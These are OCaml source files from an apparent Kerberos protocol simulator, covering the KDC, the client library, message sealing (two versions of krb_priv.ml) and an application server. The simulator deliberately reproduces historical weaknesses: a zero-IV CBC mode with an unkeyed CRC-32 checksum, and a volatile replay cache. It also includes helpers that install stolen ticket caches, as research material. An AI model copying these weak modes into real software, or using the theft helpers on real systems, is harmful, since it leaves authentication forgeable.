    cut-and-paste attack even under a weak checksum.

    [telemetry] (default {!Telemetry.Collector.default}) receives a
    ["kdc.as_req"]/["kdc.tgs_req"] span per exchange, per-source AS_REQ
    tracking in the operator view, and the request counters as registry
    metrics named [kdc.<realm>.as_requests_served] etc. (suffixed [#2], …
    when several KDCs serve one realm). *)

val realm : t -> string
val database : t -> Kdb.t

val add_realm_route : t -> remote:string -> next_hop:string -> unit
(** Static inter-realm routing: requests for [remote] are referred to the
    cross-realm principal for [next_hop]. The paper: "there is no
    discussion of how a TGS can determine which of its neighboring realms
    should be the next hop ... static tables ... have security
    limitations." *)

val install : Sim.Net.t -> Sim.Host.t -> t -> ?port:int -> unit -> unit

(** {2 Durability and crash recovery}

    Mirrors {!Apserver.crash}/[restart], but for the state that actually
    matters realm-wide: the principal database. With durability enabled
    the database logs every mutation append-before-apply
    ({!Kdb.enable_durability}); a crash captures the checkpoint + WAL
    disk image and the TGS replay-cache snapshot, and a restart recovers
    by checkpoint load + WAL replay (torn or bit-flipped tails are
    CRC-truncated, never fatal) and prunes expired replay entries. *)

val enable_durability : ?checkpoint_every:int -> t -> unit
(** Attach a WAL to the KDC's database and take an initial checkpoint.
    [checkpoint_every] as in {!Kdb.enable_durability}. *)

val crash : t -> unit
(** Stop listening and lose all in-memory state. Only meaningful after
    {!install} (a KDC that never listened has nothing to crash). Without
    durability the database itself is lost — the paper's single point of
    failure, reproduced. *)

val restart : t -> unit
(** Recover from the disk image captured at crash time and listen again
    on the same port. No-op if already running. *)

val running : t -> bool

type recovery_info = {
  wal_applied : int;        (** WAL records replayed on top of the checkpoint *)
  wal_skipped : int;        (** records the checkpoint already covered *)
  wal_discarded_bytes : int;(** torn/corrupt WAL tail truncated by CRC *)
  replay_entries : int;     (** TGS replay-cache entries still live at restart *)
}

val last_recovery : t -> recovery_info option
(** What the most recent {!restart} had to do, [None] before any
    recovery. *)

val recoveries : t -> int
(** Lifetime recovery count (the [kdc.<realm>.recoveries] counter). *)

(** Statistics for the experiments — thin wrappers over the registry
    counters the KDC records into (the historical interface, kept). *)

val as_requests_served : t -> int
val preauth_rejections : t -> int
val rate_limited_requests : t -> int
