(** The client library: login, ticket acquisition (including multi-hop
    cross-realm referrals), the AP exchange, and sealed application calls.

    All operations are continuation-passing over the simulated network.
    Credentials are cached in the host's credential cache — which is the
    object the paper worries about on multi-user machines. *)

type t

type credentials = {
  service : Principal.t;
  ticket : bytes;  (** sealed, opaque to us *)
  session_key : bytes;
  issued_at : float;
  lifetime : float;
}

val create :
  ?seed:int64 ->
  ?password:string ->
  ?kdc_timeout:float ->
  ?kdc_retries:int ->
  ?ccache:bool ->
  ?kdc_rotation:bool ->
  ?retry_budget:int ->
  ?breaker_threshold:int ->
  ?breaker_cooldown:float ->
  ?honor_retry_after:bool ->
  ?kdc_deadline:float ->
  Sim.Net.t ->
  Sim.Host.t ->
  profile:Profile.t ->
  kdcs:(string * Sim.Addr.t) list ->
  Principal.t ->
  t
(** [kdcs] maps realm names to KDC addresses. A realm may appear more
    than once: the first entry is the master, later entries the slave
    KDCs, and every KDC exchange fails over down the list when an address
    stays silent through its retry budget ([kdc_timeout] seconds per
    attempt, default 1.0, exponential backoff over [kdc_retries]
    retransmissions, default 0). [password], if given, is remembered so
    {!get_ticket} can re-login when the TGT has expired.

    [ccache] (default [false]) turns on the service-ticket credential
    cache: {!get_ticket} reuses an unexpired ticket for the same service
    without a TGS exchange, as the real client reuses [/tmp/tkt<uid>] —
    including the paper's caveat that anyone who can read the cache can
    replay its contents ("an intruder ... can use these until they
    expire"). Only plain requests are cached; a request carrying options,
    an additional ticket, or authorization data always goes to the TGS.

    [kdc_rotation] (default [false]) reuses the failover list as a
    load-balancing rotation: each logical KDC request starts one position
    further along the realm's list (wrapping), so a pool of KDCs serving
    one realm shares the load while an unreachable member still fails
    over to the rest.

    {b Storm hygiene} (all off by default — the historical client, which
    amplifies overload):

    [retry_budget] caps retry amplification with a token bucket of the
    given capacity: every failover hop and every honored busy-wait spends
    a token, every successful exchange refills one (capped), and when the
    bucket is dry the exchange fails instead of adding load. [None]
    (default) retries without bound.

    [breaker_threshold] arms a per-KDC circuit breaker: after that many
    {e consecutive} busy/timeout outcomes from one KDC, the client stops
    sending to it for [breaker_cooldown] seconds (default 5.0) and routes
    around it via the failover list. After the cooldown one probe request
    is allowed through — success closes the breaker, failure re-trips it
    immediately.

    [honor_retry_after] makes the client treat a [KRB_ERR_BUSY] answer as
    a scheduling hint: wait out the KDC's retry-after, then retry (budget
    permitting). Without it a busy answer surfaces as an ordinary KDC
    error — the naive client the overload experiment measures.

    [kdc_deadline] bounds each logical KDC exchange (seconds): the
    deadline is stamped into the request ({!Messages.with_deadline}) so
    an admission-controlled KDC can shed the queued copy once the caller
    has given up, and no failover/busy-wait step starts past it. *)

val principal : t -> Principal.t
val host : t -> Sim.Host.t
val net : t -> Sim.Net.t
val client_profile : t -> Profile.t
val client_rng : t -> Util.Rng.t

val login :
  t ->
  ?handheld:(bytes -> bytes) ->
  ?key:bytes ->
  ?service:Principal.t ->
  password:string ->
  ((credentials, string) result -> unit) ->
  unit
(** Obtain the ticket-granting ticket — or, with [?service], a ticket for
    that service directly from the AS exchange. The AS exchange is
    clock-free on the client side (nonce-based), which matters when a
    machine with a broken clock must reach the time service to fix it
    (the bootstrap problem of the "Secure Time Services" section).
    Credentials from a [?service] login are returned but not installed as
    the TGT. Under [Handheld_challenge] the
    optional [handheld] function computes [{R}Kc] (a hardware device that
    never reveals Kc); without a device the login code derives Kc from the
    password and computes it itself, as the paper says the login program
    would. The password-derived key is discarded after login except under
    [Password] login where it transiently protects the reply. *)

val tgt : t -> credentials option

val adopt_tgt : t -> credentials -> unit
(** Install stolen or forwarded credentials as this client's TGT — what an
    attacker does with a cache-theft haul. *)

val get_ticket :
  t ->
  ?options:Messages.kdc_options ->
  ?additional_ticket:bytes ->
  ?authz_data:bytes ->
  service:Principal.t ->
  ((credentials, string) result -> unit) ->
  unit
(** Obtain a service ticket via the TGS, following cross-realm referrals
    (bounded hops). If the client was created with a [password], an
    expired (or missing) TGT triggers a re-login first — including once
    on a TGS "ticket expired" error, for the client whose TGT dies while
    a retry is in flight. *)

(** Where the credentials came from — {!get_ticket_ex} tags its result so
    a caller can tell a live KDC answer from graceful degradation. *)
type source =
  | From_kdc    (** a KDC (AS or TGS) issued the ticket just now *)
  | From_cache  (** credential-cache hit ([~ccache:true], unexpired) *)
  | Degraded
      (** every KDC timed out, but a still-valid cached service ticket
          was served instead — authentication to {e new} services is
          down, existing tickets keep working until they expire *)

val get_ticket_ex :
  t ->
  ?options:Messages.kdc_options ->
  ?additional_ticket:bytes ->
  ?authz_data:bytes ->
  service:Principal.t ->
  ((credentials * source, string) result -> unit) ->
  unit
(** As {!get_ticket}, with the provenance of the result. When the whole
    KDC pool is silent (crash windows, partitions) and an unexpired
    ticket for [service] sits in the wallet, the request degrades to it
    ([Degraded]) instead of surfacing the timeout — the paper's
    availability story: tickets in hand outlive the KDC that issued
    them. Only plain requests degrade; options, additional tickets and
    authorization data genuinely need the TGS. *)

val degraded_fallbacks : t -> int
(** Requests this client served as [Degraded] (also counted on the
    net-wide [client.degraded_fallbacks] metric). *)

val kdc_addrs : t -> string -> Sim.Addr.t list
(** All configured KDC addresses for a realm, failover order. *)

(** An authenticated session handle bound to a client-side port. *)
type channel

val session : channel -> Session.t

val ap_exchange :
  t ->
  credentials ->
  ?mutual:bool ->
  ?deadline:float ->
  ?transport:[ `Auto | `Udp | `Tcp ] ->
  dst:Sim.Addr.t ->
  dport:int ->
  ((channel, string) result -> unit) ->
  unit
(** [deadline] (seconds from now; default none — wait forever, the
    pre-fault-plane behaviour) bounds the whole exchange: if it passes
    first the link is torn down and the continuation gets
    [Error "AP exchange timed out"], exactly once.

    [transport] (default [`Auto]) picks the channel's link: [`Auto]
    tries a datagram exchange first and transparently redoes it over
    framed TCP when the AP_REQ itself exceeds the client's path MTU or
    the server answers with a RESPONSE-TOO-BIG refusal; [`Udp]/[`Tcp]
    pin the link. A datagram channel that later hits the refusal on a
    sealed call re-establishes itself over TCP and resends the call,
    invisibly to the caller (counted in
    [transport.fallback.response_too_big]). *)

val call_priv :
  t -> channel -> ?deadline:float -> bytes -> k:((bytes, string) result -> unit) -> unit
(** Seal a request, send it on the channel, open the sealed response.
    [deadline] bounds the wait as in {!ap_exchange} (the channel itself
    survives for later calls). *)

val send_priv_oneway : t -> channel -> bytes -> unit

val call_safe :
  t -> channel -> ?deadline:float -> bytes -> k:((bytes, string) result -> unit) -> unit
(** As [call_priv] but integrity-only (KRB_SAFE): the request travels in
    the clear with a sealed checksum. *)

val logout : t -> unit
(** Wipe cached credentials (workstation logout) — the TGT, the
    service-ticket cache, and the host cache entries. *)

val ccache_hits : t -> int
(** TGS exchanges skipped because an unexpired service ticket was reused
    (always 0 unless the client was created with [~ccache:true]). *)

val ccache_misses : t -> int
(** Cacheable {!get_ticket} requests that had to go to the TGS anyway —
    first use of a service, or its cached ticket had expired. *)

val busy_received : t -> int
(** [KRB_ERR_BUSY] answers this client has received from KDCs. *)

val breaker_trips : t -> int
(** Times a per-KDC circuit breaker opened (0 without
    [breaker_threshold]). *)

val budget_exhausted : t -> int
(** Retry/busy-wait steps refused because the retry budget was dry (0
    without [retry_budget]). *)

val retry_tokens : t -> float
(** Tokens currently in the retry bucket (0.0 without [retry_budget]). *)

(** Plumbing shared with the hardened helpers and the attacks: *)

val seal_authenticator : t -> credentials -> Messages.authenticator -> bytes

val creds_to_bytes : credentials -> bytes
(** The serialized form parked in the host credential cache. *)

val creds_of_bytes : bytes -> credentials
(** What a cache thief does with a stolen entry.
    @raise Wire.Codec.Decode_error *)

val build_authenticator :
  t -> credentials -> ?req_cksum:bytes -> now:float -> unit ->
  Messages.authenticator * bytes option * int option
(** The authenticator record plus the subkey part and initial sequence
    number chosen for it (also returned so the caller can build the session
    afterwards). Not sealed yet. *)
