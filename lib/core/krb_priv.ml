type error =
  | Garbled
  | Bad_direction
  | Bad_address
  | Stale of float
  | Replay
  | Out_of_sequence of { expected : int; got : int }

let error_to_string = function
  | Garbled -> "garbled"
  | Bad_direction -> "bad direction"
  | Bad_address -> "bad address"
  | Stale dt -> Printf.sprintf "stale by %.1fs" dt
  | Replay -> "replay"
  | Out_of_sequence { expected; got } ->
      Printf.sprintf "out of sequence (expected %d, got %d)" expected got

let skew = 300.0

let direction_byte (s : Session.t) ~sending =
  match (s.role, sending) with
  | Session.Client_side, true | Session.Server_side, false -> 0 (* client -> server *)
  | Session.Client_side, false | Session.Server_side, true -> 1

let sched (s : Session.t) = s.Session.sched

(* The seal paths assemble each layout directly in its final padded buffer
   ([Mode.create_padded]) with plain big-endian stores matching the
   [Wire.Codec.Writer] formats, then encrypt in place: sealing a frame
   performs exactly one allocation, the ciphertext itself. The open paths
   decrypt into one fresh buffer and parse it in place with a cursor
   reader ([Codec.Reader.of_sub]) — no trailer copies. *)
let set_u32 b pos v =
  Bytes.set_uint16_be b pos ((v lsr 16) land 0xffff);
  Bytes.set_uint16_be b (pos + 2) (v land 0xffff)

let decrypt_pcbc k ~iv ct =
  let plain = Bytes.create (Bytes.length ct) in
  Crypto.Mode.pcbc_decrypt_into k ~iv ~src:ct ~dst:plain;
  plain

let decrypt_cbc k ~iv ct =
  let plain = Bytes.create (Bytes.length ct) in
  Crypto.Mode.cbc_decrypt_into k ~iv ~src:ct ~dst:plain;
  plain

(* Stamp field: timestamp or sequence number, by profile. *)
let stamp_value (s : Session.t) ~now =
  match s.profile.Profile.priv_replay with
  | Profile.Priv_timestamp -> Int64.bits_of_float now
  | Profile.Priv_sequence ->
      let v = Int64.of_int s.send_seq in
      s.send_seq <- s.send_seq + 1;
      v

let check_stamp (s : Session.t) ~now stamp ~replay_key =
  match s.profile.Profile.priv_replay with
  | Profile.Priv_timestamp ->
      let ts = Int64.float_of_bits stamp in
      let dt = Float.abs (now -. ts) in
      if dt > skew then Error (Stale dt)
      else if Replay_cache.check_and_insert s.cache ~now replay_key = Replay_cache.Replayed
      then Error Replay
      else Ok ()
  | Profile.Priv_sequence ->
      let got = Int64.to_int stamp in
      if got <> s.recv_seq then Error (Out_of_sequence { expected = s.recv_seq; got })
      else begin
        s.recv_seq <- s.recv_seq + 1;
        Ok ()
      end

(* --- V4 layout: [u32 len][data][i64 msec][u32 addr][i64 stamp][u8 dir] --- *)

let seal_v4 s ~now data =
  let dlen = Bytes.length data in
  let plen = 4 + dlen + 8 + 4 + 8 + 1 in
  let buf = Crypto.Mode.create_padded plen in
  set_u32 buf 0 dlen;
  Bytes.blit data 0 buf 4 dlen;
  Bytes.set_int64_be buf (4 + dlen) (Int64.of_float (now *. 1000.0));
  set_u32 buf (12 + dlen) s.Session.own_addr;
  Bytes.set_int64_be buf (16 + dlen) (stamp_value s ~now);
  Bytes.set buf (24 + dlen) (Char.chr (direction_byte s ~sending:true));
  Crypto.Mode.pcbc_encrypt_into (sched s) ~iv:Crypto.Mode.zero_iv ~src:buf ~dst:buf;
  buf

let open_v4 s ~now ct =
  let plain = decrypt_pcbc (sched s) ~iv:Crypto.Mode.zero_iv ct in
  match Crypto.Mode.unpad_length plain with
  | None -> Error Garbled
  | Some n -> (
      match
        let r = Wire.Codec.Reader.of_sub plain ~pos:0 ~len:n in
        let data = Wire.Codec.Reader.lbytes r in
        let _msec = Wire.Codec.Reader.i64 r in
        let addr = Wire.Codec.Reader.u32 r in
        let stamp = Wire.Codec.Reader.i64 r in
        let dir = Wire.Codec.Reader.u8 r in
        Wire.Codec.Reader.expect_end r;
        (data, addr, stamp, dir)
      with
      | exception Wire.Codec.Decode_error _ -> Error Garbled
      | data, addr, stamp, dir ->
          if dir <> direction_byte s ~sending:false then Error Bad_direction
          else if not (Sim.Addr.equal addr s.Session.peer_addr) then Error Bad_address
          else
            Result.map (fun () -> data) (check_stamp s ~now stamp ~replay_key:ct))

(* --- V5 draft layout: [data][cksum over data][i64 stamp][u8 dir][u32 addr],
   data FIRST, under CBC with a fixed public IV. The checksum "is used to
   detect message modification" — but it is the profile's (possibly
   CRC-32) checksum over attacker-visible content, computed inside the
   encryption, so a chosen-plaintext prefix can carry a valid one. --- *)

let v5_cksum_size (s : Session.t) = Crypto.Checksum.size s.profile.Profile.checksum

let trailer_size = 8 + 1 + 4

(* The embedded checksum covers the data bytes; unkeyed for Crc32/Md4 (the
   session key argument is used only by Md4_des). *)
let v5_cksum (s : Session.t) data =
  Crypto.Checksum.compute s.profile.Profile.checksum ~key:s.key data

let seal_v5 s ~now data =
  let dlen = Bytes.length data in
  let csize = v5_cksum_size s in
  let plen = dlen + csize + trailer_size in
  let buf = Crypto.Mode.create_padded plen in
  Bytes.blit data 0 buf 0 dlen;
  let cksum =
    Crypto.Checksum.compute_sub s.Session.profile.Profile.checksum ~key:s.Session.key
      buf ~pos:0 ~len:dlen
  in
  Bytes.blit cksum 0 buf dlen csize;
  Bytes.set_int64_be buf (dlen + csize) (stamp_value s ~now);
  Bytes.set buf (dlen + csize + 8) (Char.chr (direction_byte s ~sending:true));
  set_u32 buf (dlen + csize + 9) s.Session.own_addr;
  Crypto.Mode.cbc_encrypt_into (sched s) ~iv:Crypto.Mode.zero_iv ~src:buf ~dst:buf;
  buf

let parse_v5_plain s plain n =
  let csize = v5_cksum_size s in
  if n < trailer_size + csize then Error Garbled
  else begin
    let dlen = n - trailer_size - csize in
    let data = Bytes.sub plain 0 dlen in
    let cksum = Bytes.sub plain dlen csize in
    let r = Wire.Codec.Reader.of_sub plain ~pos:(n - trailer_size) ~len:trailer_size in
    let stamp = Wire.Codec.Reader.i64 r in
    let dir = Wire.Codec.Reader.u8 r in
    let addr = Wire.Codec.Reader.u32 r in
    if Util.Bytesutil.equal cksum (v5_cksum s data) then Ok (data, addr, stamp, dir)
    else Error Garbled
  end

let open_v5 s ~now ct =
  let plain = decrypt_cbc (sched s) ~iv:Crypto.Mode.zero_iv ct in
  match Crypto.Mode.unpad_length plain with
  | None -> Error Garbled
  | Some n -> (
      match parse_v5_plain s plain n with
      | Error e -> Error e
      | Ok (data, addr, stamp, dir) ->
          if dir <> direction_byte s ~sending:false then Error Bad_direction
          else if not (Sim.Addr.equal addr s.Session.peer_addr) then Error Bad_address
          else Result.map (fun () -> data) (check_stamp s ~now stamp ~replay_key:ct))

(* --- Hardened layout: [data][md4 over data+trailer][trailer], IV chains
   across the session's messages in each direction. --- *)

let seal_chain s ~now data =
  let dlen = Bytes.length data in
  let plen = dlen + 16 + trailer_size in
  let buf = Crypto.Mode.create_padded plen in
  Bytes.blit data 0 buf 0 dlen;
  Bytes.fill buf dlen 16 '\000';
  Bytes.set_int64_be buf (dlen + 16) (stamp_value s ~now);
  Bytes.set buf (dlen + 24) (Char.chr (direction_byte s ~sending:true));
  set_u32 buf (dlen + 25) s.Session.own_addr;
  (* The digest field is still zero here, so this hashes the zeroed form
     (the digest covers the unpadded plaintext only). *)
  let digest = Crypto.Md4.digest_sub buf ~pos:0 ~len:plen in
  Bytes.blit digest 0 buf dlen 16;
  Crypto.Mode.cbc_encrypt_into (sched s) ~iv:s.Session.send_iv ~src:buf ~dst:buf;
  (* Chain: next message continues from this one's last block. *)
  s.Session.send_iv <- Bytes.sub buf (Bytes.length buf - 8) 8;
  buf

let open_chain s ~now ct =
  let plain = decrypt_cbc (sched s) ~iv:s.Session.recv_iv ct in
  match Crypto.Mode.unpad_length plain with
  | None -> Error Garbled
  | Some n ->
      if n < 16 + trailer_size then Error Garbled
      else begin
        let dlen = n - 16 - trailer_size in
        (* [plain] is ours: lift the digest out and re-zero its field in
           place rather than copying the whole message. *)
        let digest = Bytes.sub plain dlen 16 in
        Bytes.fill plain dlen 16 '\000';
        if not (Util.Bytesutil.equal digest (Crypto.Md4.digest_sub plain ~pos:0 ~len:n))
        then Error Garbled
        else begin
          let data = Bytes.sub plain 0 dlen in
          let r = Wire.Codec.Reader.of_sub plain ~pos:(dlen + 16) ~len:trailer_size in
          let stamp = Wire.Codec.Reader.i64 r in
          let dir = Wire.Codec.Reader.u8 r in
          let addr = Wire.Codec.Reader.u32 r in
          if dir <> direction_byte s ~sending:false then Error Bad_direction
          else if not (Sim.Addr.equal addr s.Session.peer_addr) then Error Bad_address
          else
            match check_stamp s ~now stamp ~replay_key:ct with
            | Error e -> Error e
            | Ok () ->
                s.Session.recv_iv <- Bytes.sub ct (Bytes.length ct - 8) 8;
                Ok data
        end
      end

let seal s ~now data =
  match s.Session.profile.Profile.priv_mode with
  | Profile.Pcbc_v4 -> seal_v4 s ~now data
  | Profile.Cbc_v5_draft -> seal_v5 s ~now data
  | Profile.Cbc_iv_chain -> seal_chain s ~now data

let open_ s ~now ct =
  (* Guard before the block modes see the buffer: [Mode.*_decrypt_into]
     raises [Invalid_argument] on anything that is not a whole number of
     blocks, and a fault-plane truncation (or any injected frame) can
     hand us exactly that. Not a ciphertext — just Garbled. *)
  if Bytes.length ct = 0 || Bytes.length ct mod 8 <> 0 then Error Garbled
  else
    match s.Session.profile.Profile.priv_mode with
    | Profile.Pcbc_v4 -> open_v4 s ~now ct
    | Profile.Cbc_v5_draft -> open_v5 s ~now ct
    | Profile.Cbc_iv_chain -> open_chain s ~now ct
