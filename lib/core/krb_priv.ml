type error =
  | Garbled
  | Bad_direction
  | Bad_address
  | Stale of float
  | Replay
  | Out_of_sequence of { expected : int; got : int }

let error_to_string = function
  | Garbled -> "garbled"
  | Bad_direction -> "bad direction"
  | Bad_address -> "bad address"
  | Stale dt -> Printf.sprintf "stale by %.1fs" dt
  | Replay -> "replay"
  | Out_of_sequence { expected; got } ->
      Printf.sprintf "out of sequence (expected %d, got %d)" expected got

let skew = 300.0

let direction_byte (s : Session.t) ~sending =
  match (s.role, sending) with
  | Session.Client_side, true | Session.Server_side, false -> 0 (* client -> server *)
  | Session.Client_side, false | Session.Server_side, true -> 1

let sched (s : Session.t) = Crypto.Des.schedule (Crypto.Des.fix_parity s.key)

(* Pad-then-encrypt in place, and decrypt into one fresh buffer: the only
   allocations on the sealing path are the padded plaintext itself. *)
let encrypt_pcbc k ~iv plain =
  let buf = Crypto.Mode.pad plain in
  Crypto.Mode.pcbc_encrypt_into k ~iv ~src:buf ~dst:buf;
  buf

let encrypt_cbc k ~iv plain =
  let buf = Crypto.Mode.pad plain in
  Crypto.Mode.cbc_encrypt_into k ~iv ~src:buf ~dst:buf;
  buf

let decrypt_pcbc k ~iv ct =
  let plain = Bytes.create (Bytes.length ct) in
  Crypto.Mode.pcbc_decrypt_into k ~iv ~src:ct ~dst:plain;
  Crypto.Mode.unpad plain

let decrypt_cbc k ~iv ct =
  let plain = Bytes.create (Bytes.length ct) in
  Crypto.Mode.cbc_decrypt_into k ~iv ~src:ct ~dst:plain;
  Crypto.Mode.unpad plain

(* Stamp field: timestamp or sequence number, by profile. *)
let stamp_value (s : Session.t) ~now =
  match s.profile.Profile.priv_replay with
  | Profile.Priv_timestamp -> Int64.bits_of_float now
  | Profile.Priv_sequence ->
      let v = Int64.of_int s.send_seq in
      s.send_seq <- s.send_seq + 1;
      v

let check_stamp (s : Session.t) ~now stamp ~replay_key =
  match s.profile.Profile.priv_replay with
  | Profile.Priv_timestamp ->
      let ts = Int64.float_of_bits stamp in
      let dt = Float.abs (now -. ts) in
      if dt > skew then Error (Stale dt)
      else if Replay_cache.check_and_insert s.cache ~now replay_key = Replay_cache.Replayed
      then Error Replay
      else Ok ()
  | Profile.Priv_sequence ->
      let got = Int64.to_int stamp in
      if got <> s.recv_seq then Error (Out_of_sequence { expected = s.recv_seq; got })
      else begin
        s.recv_seq <- s.recv_seq + 1;
        Ok ()
      end

(* --- V4 layout: [u32 len][data][i64 msec][u32 addr][i64 stamp][u8 dir] --- *)

let seal_v4 s ~now data =
  let w = Wire.Codec.Writer.create () in
  Wire.Codec.Writer.lbytes w data;
  Wire.Codec.Writer.i64 w (Int64.of_float (now *. 1000.0));
  Wire.Codec.Writer.u32 w s.Session.own_addr;
  Wire.Codec.Writer.i64 w (stamp_value s ~now);
  Wire.Codec.Writer.u8 w (direction_byte s ~sending:true);
  encrypt_pcbc (sched s) ~iv:Crypto.Mode.zero_iv (Wire.Codec.Writer.contents w)

let open_v4 s ~now ct =
  match decrypt_pcbc (sched s) ~iv:Crypto.Mode.zero_iv ct with
  | None -> Error Garbled
  | Some plain -> (
      match
        let r = Wire.Codec.Reader.of_bytes plain in
        let data = Wire.Codec.Reader.lbytes r in
        let _msec = Wire.Codec.Reader.i64 r in
        let addr = Wire.Codec.Reader.u32 r in
        let stamp = Wire.Codec.Reader.i64 r in
        let dir = Wire.Codec.Reader.u8 r in
        Wire.Codec.Reader.expect_end r;
        (data, addr, stamp, dir)
      with
      | exception Wire.Codec.Decode_error _ -> Error Garbled
      | data, addr, stamp, dir ->
          if dir <> direction_byte s ~sending:false then Error Bad_direction
          else if not (Sim.Addr.equal addr s.Session.peer_addr) then Error Bad_address
          else
            Result.map (fun () -> data) (check_stamp s ~now stamp ~replay_key:ct))

(* --- V5 draft layout: [data][cksum over data][i64 stamp][u8 dir][u32 addr],
   data FIRST, under CBC with a fixed public IV. The checksum "is used to
   detect message modification" — but it is the profile's (possibly
   CRC-32) checksum over attacker-visible content, computed inside the
   encryption, so a chosen-plaintext prefix can carry a valid one. --- *)

let v5_cksum_size (s : Session.t) = Crypto.Checksum.size s.profile.Profile.checksum

let trailer_size = 8 + 1 + 4

(* The embedded checksum covers the data bytes; unkeyed for Crc32/Md4 (the
   session key argument is used only by Md4_des). *)
let v5_cksum (s : Session.t) data =
  Crypto.Checksum.compute s.profile.Profile.checksum ~key:s.key data

let seal_v5 s ~now data =
  let w = Wire.Codec.Writer.create () in
  Wire.Codec.Writer.raw w data;
  Wire.Codec.Writer.raw w (v5_cksum s data);
  Wire.Codec.Writer.i64 w (stamp_value s ~now);
  Wire.Codec.Writer.u8 w (direction_byte s ~sending:true);
  Wire.Codec.Writer.u32 w s.Session.own_addr;
  encrypt_cbc (sched s) ~iv:Crypto.Mode.zero_iv (Wire.Codec.Writer.contents w)

let parse_v5_plain s plain =
  let n = Bytes.length plain in
  let csize = v5_cksum_size s in
  if n < trailer_size + csize then Error Garbled
  else begin
    let data = Bytes.sub plain 0 (n - trailer_size - csize) in
    let cksum = Bytes.sub plain (n - trailer_size - csize) csize in
    let r = Wire.Codec.Reader.of_bytes (Bytes.sub plain (n - trailer_size) trailer_size) in
    let stamp = Wire.Codec.Reader.i64 r in
    let dir = Wire.Codec.Reader.u8 r in
    let addr = Wire.Codec.Reader.u32 r in
    if Util.Bytesutil.equal cksum (v5_cksum s data) then Ok (data, addr, stamp, dir)
    else Error Garbled
  end

let open_v5 s ~now ct =
  match decrypt_cbc (sched s) ~iv:Crypto.Mode.zero_iv ct with
  | None -> Error Garbled
  | Some plain -> (
      match parse_v5_plain s plain with
      | Error e -> Error e
      | Ok (data, addr, stamp, dir) ->
          if dir <> direction_byte s ~sending:false then Error Bad_direction
          else if not (Sim.Addr.equal addr s.Session.peer_addr) then Error Bad_address
          else Result.map (fun () -> data) (check_stamp s ~now stamp ~replay_key:ct))

(* --- Hardened layout: [data][md4 over data+trailer][trailer], IV chains
   across the session's messages in each direction. --- *)

let seal_chain s ~now data =
  let w = Wire.Codec.Writer.create () in
  Wire.Codec.Writer.raw w data;
  Wire.Codec.Writer.raw w (Bytes.make 16 '\000');
  Wire.Codec.Writer.i64 w (stamp_value s ~now);
  Wire.Codec.Writer.u8 w (direction_byte s ~sending:true);
  Wire.Codec.Writer.u32 w s.Session.own_addr;
  let plain = Wire.Codec.Writer.contents w in
  let dlen = Bytes.length data in
  (* The digest field is still zero here, so this hashes the zeroed form. *)
  let digest = Crypto.Md4.digest plain in
  Bytes.blit digest 0 plain dlen 16;
  let ct = encrypt_cbc (sched s) ~iv:s.Session.send_iv plain in
  (* Chain: next message continues from this one's last block. *)
  s.Session.send_iv <- Bytes.sub ct (Bytes.length ct - 8) 8;
  ct

let open_chain s ~now ct =
  match decrypt_cbc (sched s) ~iv:s.Session.recv_iv ct with
  | None -> Error Garbled
  | Some plain ->
      let n = Bytes.length plain in
      if n < 16 + trailer_size then Error Garbled
      else begin
        let dlen = n - 16 - trailer_size in
        let digest = Bytes.sub plain dlen 16 in
        let zeroed = Bytes.copy plain in
        Bytes.fill zeroed dlen 16 '\000';
        if not (Util.Bytesutil.equal digest (Crypto.Md4.digest zeroed)) then Error Garbled
        else begin
          let data = Bytes.sub plain 0 dlen in
          let r = Wire.Codec.Reader.of_bytes (Bytes.sub plain (dlen + 16) trailer_size) in
          let stamp = Wire.Codec.Reader.i64 r in
          let dir = Wire.Codec.Reader.u8 r in
          let addr = Wire.Codec.Reader.u32 r in
          if dir <> direction_byte s ~sending:false then Error Bad_direction
          else if not (Sim.Addr.equal addr s.Session.peer_addr) then Error Bad_address
          else
            match check_stamp s ~now stamp ~replay_key:ct with
            | Error e -> Error e
            | Ok () ->
                s.Session.recv_iv <- Bytes.sub ct (Bytes.length ct - 8) 8;
                Ok data
        end
      end

let seal s ~now data =
  match s.Session.profile.Profile.priv_mode with
  | Profile.Pcbc_v4 -> seal_v4 s ~now data
  | Profile.Cbc_v5_draft -> seal_v5 s ~now data
  | Profile.Cbc_iv_chain -> seal_chain s ~now data

let open_ s ~now ct =
  (* Guard before the block modes see the buffer: [Mode.*_decrypt_into]
     raises [Invalid_argument] on anything that is not a whole number of
     blocks, and a fault-plane truncation (or any injected frame) can
     hand us exactly that. Not a ciphertext — just Garbled. *)
  if Bytes.length ct = 0 || Bytes.length ct mod 8 <> 0 then Error Garbled
  else
    match s.Session.profile.Profile.priv_mode with
    | Profile.Pcbc_v4 -> open_v4 s ~now ct
    | Profile.Cbc_v5_draft -> open_v5 s ~now ct
    | Profile.Cbc_iv_chain -> open_chain s ~now ct
