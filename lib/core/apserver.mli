(** A Kerberos-authenticated application server on a datagram port.

    After a successful AP exchange (timestamp-authenticator or
    challenge/response, per the profile), the [handler] is invoked for each
    KRB_PRIV request on the established session; its optional result is
    sealed and sent back. *)

type t

type config = {
  accept_forwarded : bool;
  trusted_transit : string list;
  skew : float;  (** authenticator acceptance window *)
  refuse_dup_skey : bool;
      (** obey Draft 3's warning against authenticating with
          DUPLICATE-SKEY tickets (defeats the REUSE-SKEY redirect) *)
  max_peers : int;
      (** bound on per-peer state (pending challenges + live sessions).
          "All servers must then retain state to complete the
          authentication process" — and an attacker can milk that by
          opening challenges it never answers; beyond the bound the oldest
          entries are evicted. *)
  persist_replay_cache : bool;
      (** snapshot the replay cache at {!crash} and restore it at
          {!restart} (default [false] — the volatile cache whose restart
          gap the paper warns about). *)
}

val default_config : config

val install :
  ?seed:int64 ->
  ?config:config ->
  Sim.Net.t ->
  Sim.Host.t ->
  profile:Profile.t ->
  principal:Principal.t ->
  key:bytes ->
  port:int ->
  handler:(Session.t -> client:Principal.t -> bytes -> bytes option) ->
  unit ->
  t

val sessions_established : t -> int
(** Cumulative over the server's lifetime, crashes included. *)

val rejections : t -> (int * string) list
(** Reverse-chronological (code, reason) of refused AP attempts. *)

val replay_hits : t -> int
(** Authenticators refused as replays (the per-service telemetry
    counter), cumulative across restarts. *)

(** {1 Crash/restart}

    A server process dies and comes back: the port goes silent, pending
    challenges and established sessions are lost, and the replay cache
    survives only under [persist_replay_cache]. A {e non}-persistent
    cache restart re-admits any authenticator still inside the skew
    window — the operational gap the paper points out. *)

val crash : t -> unit
(** Idempotent; the port stops answering immediately. *)

val restart : t -> unit
(** Idempotent; re-listens on the same port with fresh peer state and a
    restored (persistent) or empty (volatile) replay cache. *)

val running : t -> bool

val replay_cache_size : t -> int
(** 0 when the profile runs without a cache. *)

val peer_state_size : t -> int
(** Pending challenges plus established sessions currently held — the
